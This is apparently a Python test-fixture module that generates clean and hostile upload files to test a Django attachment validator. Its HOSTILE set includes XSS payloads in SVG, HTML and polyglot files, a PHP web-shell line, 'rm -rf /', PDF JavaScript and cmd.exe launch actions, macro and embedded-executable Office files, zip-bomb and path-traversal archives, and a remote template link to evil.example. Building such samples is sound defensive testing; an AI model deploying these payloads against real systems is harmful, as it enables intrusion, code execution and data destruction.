"""附件 · Good and hostile files, made on the spot."""

import io
import struct
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

GPS = "Canary-Zhaojiazhuang"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def upload(data, name="照片.jpg"):
    return SimpleUploadedFile(name, data)


def image(form="JPEG", size=(400, 300), mode="RGB", **how):
    written = io.BytesIO()
    Image.effect_noise(size, 40).convert(mode).save(written, form, **how)
    return written.getvalue()


def with_exif(form="JPEG", orientation=6):
    exif = Image.Exif()
    exif[0x010E] = GPS  # ImageDescription
    exif[0x0112] = orientation
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (38.0, 14.0, 1.0)
    return image(form, exif=exif)


def with_png_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", GPS)
    info.add_itxt("XML:com.adobe.xmp", f"<x>{GPS}</x>")
    return image("PNG", pnginfo=info)


def zipped(members, *, comment=b"", method=zipfile.ZIP_DEFLATED):
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as box:
        for name, content in members:
            box.writestr(name, content)
        box.comment = comment
    return written.getvalue()


def office(kind=WORD, extra=(), main="<w:document/>"):
    types = f'<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return zipped(
        [("[Content_Types].xml", types), ("_rels/.rels", "<Relationships/>"), ("word/document.xml", main), *extra]
    )


def damaged():
    """A member whose content is not what its checksum says."""
    types = f'<?xml version="1.0"?><Override ContentType="{WORD}"/>'
    whole = zipped([("[Content_Types].xml", types), ("word/document.xml", "<x>one</x>")], method=zipfile.ZIP_STORED)
    return whole.replace(b"<x>one</x>", b"<x>two</x>")


def pdf(inside=b"", tail=b"", more=()):
    """A page with nothing on it; `inside` stands in the catalogue, `more` are objects of their own."""
    things = (
        b"<</Type/Catalog/Pages 2 0 R" + inside + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *more,
    )
    body, places = bytearray(b"%PDF-1.4\n"), []
    for number, thing in enumerate(things, 1):
        places.append(b"%010d 00000 n \n" % len(body))
        body += b"%d 0 obj%bendobj\n" % (number, thing)
    size, start = len(things) + 1, len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(places)
    return bytes(body) + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, start) + tail


def box(kind, content=b""):
    return struct.pack(">I", len(content) + 8) + kind + content


def mp4(brand=b"isom"):
    place = box(b"udta", box(b"\xa9xyz", GPS.encode()))
    track = box(b"trak", box(b"tkhd", bytes(8)) + box(b"meta", GPS.encode()))
    return (
        box(b"ftyp", brand + bytes(4) + brand)
        + box(b"moov", box(b"mvhd", bytes(16)) + track + place)
        + box(b"mdat", b"sound")
    )


def mp3(frames=5):
    frame = b"\xff\xfb\x90\x00" + bytes(413)  # MPEG 1 layer 3, 128 kbit/s, 44.1 kHz: 417 bytes
    tag = GPS.encode().ljust(100, b"\0")
    return b"ID3\x03\x00\x00" + bytes([0, 0, 0, 100]) + tag + frame * frames + b"TAG" + GPS.encode().ljust(125, b"\0")


RELS = '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

GOOD = {
    "a.jpg": image(),
    "a.jpeg": image(mode="CMYK"),
    "grey.jpg": image(mode="L"),
    "a.png": image("PNG"),
    "see-through.png": image("PNG", mode="RGBA"),
    "palette.png": image("PNG", mode="P"),
    "a.webp": image("WEBP"),
    "a.pdf": pdf(),
    "a.docx": office(),
    "a.xlsx": office(SHEET),
    "a.txt": "赵家庄村三组到小学的路晚上没有灯\n请看:1 < 2".encode(),
    "gbk.txt": "赵家庄村的路".encode("gb18030"),
    "a.mp3": mp3(),
    "a.m4a": mp4(b"M4A "),
    "a.mp4": mp4(),
    "2023.5.12 会议.pdf": pdf(),
    "图片": image(),
}

HOSTILE = {
    "empty.jpg": b"",
    "svg.svg": SVG,
    "svg.jpg": SVG,
    "svg.png": b'<?xml version="1.0"?>' + SVG,
    "page.html": b"<!DOCTYPE html><script>alert(1)</script>",
    "page.txt": b"<!DOCTYPE html><script>alert(1)</script>",
    "late.txt": b"hello\n" * 100 + b"<ScRiPt >alert(1)</script>",
    "php.txt": b"<?php system($_GET[0]);",
    "sh.txt": b"#!/bin/sh\nrm -rf /",
    "binary.txt": b"text\0more",
    "program.exe": b"MZ\x90\x00" + bytes(100),
    "program.pdf": b"MZ\x90\x00" + bytes(100),
    "elf.jpg": b"\x7fELF" + bytes(60),
    "gif.gif": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "cut.jpg": image()[:300],
    "head.jpg": b"\xff\xd8\xff\xe0" + b"<script>alert(1)</script>",
    "cut.png": image("PNG")[:200],
    "riff.webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
    "huge.png": b"\x89PNG\r\n\x1a\n" + box(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)) + bytes(12),
    "photo.heic": box(b"ftyp", b"heic" + bytes(8)),
    "html-before.pdf": b"<html><script>alert(1)</script>" + pdf(),
    "zip-behind.pdf": pdf(tail=zipped([("a.html", "x")])),
    "html-behind.pdf": pdf(tail=b"<script>alert(1)</script>"),
    "script.pdf": pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "hidden-script.pdf": pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "launch.pdf": pdf(b"/AA<</S/Launch/F(cmd.exe)>>"),
    "half.pdf": pdf()[:60],
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "plain.zip": zipped([("a.txt", "x")]),
    "jar.docx": zipped([("META-INF/MANIFEST.MF", "x"), ("a.class", "x")]),
    "macro.docx": office(extra=[("word/vbaProject.bin", b"x")]),
    "macro-type.docx": office("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "activex.docx": office(extra=[("word/activeX/activeX1.bin", b"x")]),
    "program.docx": office(extra=[("word/embeddings/run.exe", b"MZ")]),
    "dtd.docx": office(main=DTD),
    "late-dtd.docx": office(main="<x>" + " " * 65530 + "<!DOCTYPE x>"),
    "utf16.docx": office(main=DTD.encode("utf-16")),
    "declared.docx": office(main='<?xml version="1.0" encoding="UTF-7"?><x/>'),
    "template.docx": office(extra=[("word/_rels/settings.xml.rels", RELS)]),
    "bomb.docx": office(extra=[("word/media/x.bin", bytes(30 * 2**20))]),
    "many.docx": office(extra=[(f"word/{n}.xml", "") for n in range(2500)]),
    "twice.docx": office(extra=[("word/a.xml", "<a/>"), ("word/A.xml", "<b/>")]),
    "climbs.docx": office(extra=[("../../etc/x.xml", "<a/>")]),
    "rooted.docx": office(extra=[("/etc/x.xml", "<a/>")]),
    "before.docx": b"<script>alert(1)</script>" + office(),
    "behind.docx": office() + b"<script>alert(1)</script>",
    "comment.docx": zipped([("[Content_Types].xml", WORD)], comment=b"<script>alert(1)</script>"),
    "bad-crc.docx": damaged(),
    "box.mp4": box(b"ftyp", b"isom" + bytes(8)) + b"<script>alert(1)</script>",
    "long-box.mp4": box(b"ftyp", b"isom" + bytes(8)) + b"\xff\xff\xff\xffmdat",
    "noise.mp3": b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"<script>alert(1)</script>" * 40,
    "photo.jpg.html": image(),
    "photo.html.jpg": image(),
    "photo.php.jpg": image(),
    "photo.exe": image(),
    "report.docx": pdf(),
    "a.pdf": office(),
    "nul\0.jpg": image(),
    "line\n.jpg": image(),
    "bell\x07.jpg": image(),
}
